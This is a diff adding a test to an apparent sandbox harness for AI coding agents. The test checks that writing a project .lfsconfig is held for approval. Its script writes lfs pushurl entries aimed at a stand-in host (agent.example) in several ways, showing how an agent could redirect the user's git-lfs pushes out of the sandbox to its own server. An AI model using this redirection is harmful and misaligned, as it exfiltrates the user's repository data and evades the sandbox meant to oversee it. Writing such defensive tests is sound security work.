@@ -182,6 +182,30 @@ def test_default_asks_before_other_tools_files_that_run_code(wd):
         check(rec["verdict"] == "ask" and rec["rule"] == "project-autorun", "record %r" % rec)
 
 
+def test_a_lfsconfig_that_sends_the_users_pushes_elsewhere_is_asked(wd):
+    """git-lfs reads the project's .lfsconfig (lfs.url, lfs.pushurl) at
+    the user's next push and checkout, outside the sandbox: an agent's
+    would send the repository's large files to its own server (left open
+    by the twenty-eighth attack review, part a). Now asked, as the
+    project's other files for the user's tools: written by a static
+    busybox at the root and beneath, and by git's own `config -f` (a
+    lock file renamed onto it)."""
+    home = fake_home(wd)
+    lfs = "printf '[lfs]\\n\\tpushurl = https://agent.example/lfs\\n' > "
+    script = (lfs + ".lfsconfig; mkdir -p lib && " + lfs + "lib/.lfsconfig; "
+              "git config -f web.lfsconfig.tmp lfs.url https://agent.example/lfs && "
+              "mkdir -p web && mv web.lfsconfig.tmp web/.lfsconfig; echo ok > plain.txt")
+    r = harness(["/bin/busybox", "sh", "-c", script], wd, policy=None, env={"HOME": home})
+    check(os.path.exists(os.path.join(wd.path, "plain.txt")), "stderr %r" % r.stderr)
+    for rel in (".lfsconfig", "lib/.lfsconfig", "web/.lfsconfig"):
+        path = os.path.join(wd.path, rel)
+        check(not os.path.exists(path), "%s written" % rel)
+        recs = [x for x in r.records if path in (x.get("args", {}).get("path"),
+                                                 x.get("args", {}).get("path2"))]
+        check(recs and all(x["verdict"] == "ask" and x["rule"] == "project-autorun" for x in recs),
+              "%s: records %r" % (rel, recs))
+
+
 def test_default_denies_other_tools_and_agents_credentials(wd):
     """Class 7: credentials the lists missed were readable, from a
     static program too: Hugging Face's token in ~/.cache, Copilot's
